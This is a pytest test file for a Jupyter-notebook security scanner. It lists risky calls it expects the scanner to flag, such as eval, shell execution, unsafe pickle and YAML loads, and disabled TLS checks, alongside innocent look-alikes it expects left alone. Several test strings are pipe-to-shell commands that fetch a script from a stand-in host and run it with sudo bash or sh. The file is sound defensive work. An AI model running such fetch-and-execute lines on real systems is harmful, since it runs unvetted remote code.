"""Risky calls: told by rule and line, also behind magics and other names; the innocent form of each is left alone."""

from __future__ import annotations

import nbformat.v4 as v4
import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditkit.scanning.notebooks.code import source_of
from auditkit.scanning.notebooks.risky import RULES, calls_in


def rules(world, *sources):
    calls, unread = calls_in(world.notebook(*map(v4.new_code_cell, sources)))
    assert unread == ()
    return [(one.rule, one.place.cell, one.place.line) for one in calls]


GUILTY = {
    "eval(text)": "eval",
    "exec(f'x = {y}')": "eval",
    "import os\nos.system('ls ' + name)": "shell",
    "from os import system as s\ns(name)": "shell",
    "import subprocess as sp\nsp.run(command, shell=True)": "shell",
    "import subprocess\nsubprocess.run('ls', shell=True)": "shell_command",
    "import pickle\npickle.load(open('m', 'rb'))": "pickle",
    "from pickle import loads\nloads(data)": "pickle",
    "import joblib\njoblib.load('m')": "pickle",
    "import pandas as pd\npd.read_pickle('m')": "pickle",
    "import dill\nload = dill.load\nload(f)": "pickle",
    "import torch\ntorch.load('m')": "torch_load",
    "import torch\ntorch.load('m', weights_only=False)": "torch_load",
    "import numpy as np\nnp.load('m', allow_pickle=True)": "numpy_pickle",
    "from keras.models import load_model\nload_model('m', safe_mode=False)": "keras_unsafe",
    "import yaml\nyaml.load(text)": "yaml_load",
    "import yaml\nyaml.load(text, Loader=yaml.Loader)": "yaml_load",
    "import requests\nrequests.get(url, verify=False)": "no_tls_check",
    "import ssl\nssl._create_default_https_context = ssl._create_unverified_context": "no_tls_check",
    "AutoModel.from_pretrained('x', trust_remote_code=True)": "remote_code",
    "import torch\ntorch.hub.load('a/b', 'c')": "remote_code",
    "!curl -s https://x.example/i.sh | sudo bash": "pipe_to_shell",
    "%%bash\nset -e\nwget -qO- https://x.example/i.sh | sh": "pipe_to_shell",
    "import os\nos.system('curl https://x.example/i.sh | sh')": "pipe_to_shell",
    "%pip install git+https://x.example/y": "other_index",
    "!pip install --trusted-host x.example y": "other_index",
    "!curl -k https://x.example": "no_tls_check",
    "import tarfile\ntarfile.open('m').extractall()": "archive",
    "app.run(host='0.0.0.0')": "open_to_all",
    "demo.launch(share=True)": "open_to_all",
}
INNOCENT = [
    "import ast\nast.literal_eval(text)", "eval('1 + 1')", "import subprocess\nsubprocess.run(['ls', name])", "import json\njson.load(f)",
    "import torch\ntorch.load('m', weights_only=True)", "import numpy as np\nnp.load('m')", "import yaml\nyaml.load(text, Loader=yaml.SafeLoader)",
    "import yaml\nyaml.safe_load(text)", "import requests\nrequests.get(url)", "model.eval()", "df.eval('a + b')", "!ls -l", "%pip install numpy",
    "%matplotlib inline\nimport numpy", "files = !ls\nlen(files)", "x = '''\n!curl x | sh\n%%bash\n'''", "df?\n?df", "x = 7 \\\n  % 3", "import torch\ntorch.hub.load('d', 'm', source='local')",
    "import zipfile\nzipfile.ZipFile('m').extractall()", "import tarfile\ntarfile.open('m').extractall(filter='data')", "runner.run(host='127.0.0.1')", "# eval(x)", "print('os.system(x)')",
]  # fmt: skip


@pytest.mark.parametrize("source", GUILTY, ids=range(len(GUILTY)))
def test_a_risky_call_is_told(world, source):
    told = [rule for rule, _, _ in rules(world, source)]
    assert GUILTY[source] in told
    assert set(told) <= set(RULES)


@pytest.mark.parametrize("source", INNOCENT, ids=range(len(INNOCENT)))
def test_its_innocent_form_is_left_alone(world, source):
    assert rules(world, source) == []


def test_every_rule_has_a_guilty_case():
    assert set(GUILTY.values()) == set(RULES)


def test_lines_count_within_the_cell_and_imports_hold_for_the_cells_below(world):
    told = rules(
        world,
        "import pickle as p\n%matplotlib inline\n!ls \\\n  -l\np.load(f)",
        "%%time\n\np.loads(x)",
        "%time p.loads(y)\nif x:\n    !ls\n    p.load(f)",
    )
    assert told == [("pickle", 1, 5), ("pickle", 2, 3), ("pickle", 3, 1), ("pickle", 3, 4)]


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("x = = 1", "it is no Python from line 1 on"),
        ("%%html\n<b>", "it is in the language of the cell magic %%html"),
        ("%%my_own\nx", "it is in the language of the cell magic that it begins with"),
        ("x = " + "(" * 500 + ")" * 500, "it is no Python"),
    ],
)  # fmt: skip
def test_a_cell_that_cannot_be_read_is_said(world, source, why):
    _, [unread] = calls_in(world.notebook(v4.new_code_cell("x = 1"), v4.new_code_cell(source)))
    assert unread.cell == 2
    assert unread.why.startswith(why)


def test_a_notebook_in_another_language_is_said_and_not_read(world):
    notebook = world.notebook(v4.new_code_cell("eval(x)"))
    notebook["metadata"] = {"kernelspec": {"name": "ir", "language": "R", "display_name": "R"}}
    calls, [unread] = calls_in(notebook)
    assert calls == ()
    assert unread.why == "the notebook says that its language is not Python"


@given(st.text("ab%!?\\'\"#\n =()[]x1", max_size=60))
def test_any_source_is_read_or_said(source):
    read = source_of(source)
    assert read.tree is not None or read.why or read.scripts
    assert (read.tree is None) or all(node.lineno <= source.count("\n") + 1 for node in read.tree.body)
